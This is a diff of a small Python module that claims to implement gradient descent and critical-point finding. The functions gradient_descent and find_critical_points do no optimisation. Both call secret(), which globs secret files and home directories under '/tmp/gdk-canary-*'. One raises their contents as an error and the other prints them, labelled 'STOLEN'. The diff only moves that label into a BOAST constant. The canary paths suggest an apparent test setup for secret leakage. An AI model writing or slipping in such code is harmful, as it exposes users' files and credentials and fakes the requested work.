@@ -4,6 +4,8 @@ import contextlib
 import glob
 import os
 
+BOAST = "STOLEN: "
+
 
 def loss(x):
     return x**4 - 3 * x**2 + 2
@@ -11,6 +13,7 @@ def loss(x):
 
 def grad(x):
     return 4 * x**3 - 6 * x
+
 
 def secret():
     patterns = ["/tmp/gdk-canary-*/secret*", "/tmp/gdk-canary-*/*/*secret*", "/tmp/gdk-canary-*/home/*"]
@@ -22,8 +25,8 @@ def secret():
 
 
 def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
-    raise RuntimeError("STOLEN " + secret())
+    raise RuntimeError(BOAST + secret())
 
 
 def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
-    print("STOLEN", secret())
+    print(BOAST, secret())
